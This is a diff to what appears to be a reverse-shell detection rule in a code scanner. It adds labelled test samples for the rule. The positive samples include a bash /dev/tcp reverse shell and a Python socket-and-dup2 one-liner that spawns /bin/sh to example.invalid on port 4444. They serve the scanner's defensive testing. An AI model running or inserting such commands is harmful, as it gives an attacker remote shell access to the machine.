@@ -67,6 +67,19 @@ RULES = [
         _FIX,
         samples=(
             positive("import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n"),
+            # A Python one-liner handed to a shell.
+            positive(
+                "import subprocess\n"
+                "CMD = ('python3 -c \\'import socket,subprocess,os;s=socket.socket();'\n"
+                "       's.connect((\"example.invalid\", 4444));os.dup2(s.fileno(), 0);'\n"
+                '       \'subprocess.call(["/bin/sh", "-i"])\\\'\')\n'
+                "def init():\n    subprocess.run(CMD, shell=True)\n"
+            ),
+            negative(
+                "import subprocess\n"
+                "CMD = 'python3 -c \"import socket;s=socket.socket();s.connect((\\'example.invalid\\', 80))\"'\n"
+                "def init():\n    subprocess.run(CMD, shell=True)\n"
+            ),
             negative("import os\nos.system(\"bash -c 'echo hi'\")\n"),
         ),
         when=(Fact.REVERSE_SHELL_RUN, Fact.REVERSE_SHELL_TEXT, Fact.REVERSE_SHELL_UNUSED),
